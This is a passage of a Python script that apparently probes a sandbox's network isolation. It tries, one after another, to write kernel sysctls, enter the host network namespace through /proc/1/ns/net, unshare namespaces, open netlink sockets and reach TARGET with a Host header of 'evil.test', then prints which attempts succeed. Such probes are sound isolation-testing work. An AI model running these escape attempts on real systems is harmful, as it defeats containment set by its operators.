    "sysctl-segments": lambda: open("/proc/sys/net/ipv6/conf/lo/seg6_enabled", "w").write("1"),
    "sysctl-route": lambda: open("/proc/sys/net/ipv4/conf/all/accept_source_route", "w").write("1"),
    "sysctl-local": lambda: open("/proc/sys/net/ipv4/conf/all/route_localnet", "w").write("1"),
    "fast-open-key": lambda: open("/proc/sys/net/ipv4/tcp_fastopen", "w").write("1027"),
    "host-namespace": lambda: ctypes.CDLL(None).setns(os.open("/proc/1/ns/net", os.O_RDONLY), 0) == 0 and open("/sys/class/net/out0/mtu").read(),
    "user-namespace": lambda: (ctypes.CDLL(None).unshare(0x50000000) == 0 or os.kill(0, 0)) and tcp(TARGET, 80, http("evil.test")),
    "xfrm": lambda: netlink(6),
    "generic": lambda: netlink(16),
    "audit": lambda: netlink(9),
    "routes": lambda: netlink(0),
    "rules": lambda: netlink(12),
    "sysctl": lambda: open("/proc/sys/net/ipv4/ip_forward", "w").write("1"),
    "other-namespace": lambda: os.open("/proc/1/ns/net", os.O_RDONLY) and namespaces(),
}


def tcp_on(s):
    s.settimeout(3)
    s.connect((TARGET, 80))
    s.sendall(http("evil.test"))
    return s.recv(100)


def main(names):
    for name in names:
        try:
            out = repr(ATTEMPTS[name]())[:300]
        except (OSError, ssl.SSLError, UnicodeError, OverflowError) as e:
            out = f"! {type(e).__name__} {e}"
        print(name + "\t" + out, flush=True)
        time.sleep(0.01)


main(list(ATTEMPTS) if sys.argv[1] == "all" else sys.argv[1].split(","))
